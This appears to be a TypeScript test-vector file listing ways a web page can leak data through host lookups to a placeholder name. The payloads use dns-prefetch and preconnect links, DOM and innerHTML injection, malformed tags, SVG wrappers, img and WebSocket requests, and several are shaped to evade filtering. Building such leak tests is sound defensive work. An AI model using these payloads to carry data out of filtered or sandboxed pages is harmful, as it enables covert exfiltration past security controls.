import { script, type Vector } from '../vector.ts'

const link = (rel: string): string => `<link rel=${rel} href=//{name}:9>`
const all = (vectors: Omit<Vector, 'by'>[]): Vector[] =>
  vectors.map((vector) => ({ ...vector, by: 'lookup' }))

/** Host lookups. A name alone can carry a message. */
export const lookups: Vector[] = all([
  { name: 'dns-prefetch', page: link('dns-prefetch') },
  {
    name: 'dns-prefetch by DOM',
    page: script(
      "const l=document.createElement('link');l.rel='dns-prefetch';l.href='//{name}:9';document.head.append(l)",
    ),
  },
  {
    name: 'dns-prefetch by innerHTML',
    page: script("document.body.innerHTML='<link rel=dns-prefetch href=//{name}:9>'"),
  },
  { name: 'dns-prefetch behind a word', page: `a${link('dns-prefetch')}` },
  { name: 'dns-prefetch in a broken tag', page: `<p a<base=b><i<link>${link('dns-prefetch')}` },
  {
    name: 'dns-prefetch in SVG',
    page: `<svg><foreignObject>${link('dns-prefetch')}</foreignObject></svg>`,
  },
  {
    name: 'dns-prefetch by a fragment',
    page: script(
      "document.head.append(document.createRange().createContextualFragment('<link rel=dns-prefetch href=//{name}:9>'))",
    ),
  },
  { name: 'preconnect by name', page: link('preconnect') },
  { name: 'img by name', page: '<img src=http://{name}:9/>', live: ['chromium'] },
  { name: 'WebSocket by name', page: script("new WebSocket('ws://{name}:9/')") },
  {
    name: 'links in view',
    page: '<meta http-equiv=x-dns-prefetch-control content=on><a href=http://{name}:9/>x</a>',
    live: ['firefox'],
  },
])
